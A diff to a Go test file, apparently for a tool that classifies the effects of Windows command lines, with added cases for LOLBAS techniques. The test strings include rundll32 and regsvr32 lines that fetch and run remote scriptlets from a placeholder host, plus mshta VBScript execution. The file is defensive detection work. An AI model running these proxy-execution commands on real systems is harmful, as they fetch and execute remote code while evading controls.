@@ -17,13 +17,17 @@ import (
 func TestEffectsLolbas(t *testing.T) {
 	t.Parallel()
 	persist := func(p string) middleware.Effect { return opProg(middleware.EffectPersist, p) }
+	foreign := middleware.Effect{Op: middleware.EffectExec, Unknown: true, Class: effects.ClassForeignScript}
 	decoded := func(p string) middleware.Effect {
 		return middleware.Effect{Op: middleware.EffectWrite, Path: p, Class: effects.ClassDecoded}
 	}
 	runEffectCases(t, false, []effectCase{
 		{"rundll32 unc dll", `rundll32 \\h.example\s\x.dll,Entry`, []middleware.Effect{fetch("h.example"), unk(ex(""))}, nil},
 		{"rundll32 local dll", `rundll32 C:\Users\Public\x.dll,Entry`, []middleware.Effect{ex("/Users/Public/x.dll")}, []middleware.Effect{unk(ex(""))}},
-		{"rundll32 javascript", `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";GetObject("script:https://h.example/x.sct")`, []middleware.Effect{unk(ex("")), fetch("h.example")}, nil},
+		{"rundll32 javascript", `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";GetObject("script:https://h.example/x.sct")`, []middleware.Effect{foreign, fetch("h.example")}, nil},
+		{"rundll32 javascript, no URL", `rundll32 javascript:"\..\mshtml,RunHTMLApplication ";alert(1)`, []middleware.Effect{foreign}, nil},
+		{"mshta vbscript", `mshta vbscript:Execute("MsgBox 1")`, []middleware.Effect{foreign}, nil},
+		{"mshta of a local file", `mshta app.hta`, nil, []middleware.Effect{foreign}},
 		{"regsvr32 scrobj url", `regsvr32 /s /n /u /i:https://h.example/x.sct scrobj.dll`, []middleware.Effect{fetch("h.example"), unk(ex(""))}, nil},
 		{"regsvr32 registers", `regsvr32 /s C:\x\my.dll`, []middleware.Effect{persist("regsvr32"), ex("C:/x/my.dll")}, nil},
 		{"regsvr32 /u unregisters", `regsvr32 /u /s C:\x\my.dll`, nil, []middleware.Effect{persist("regsvr32")}},
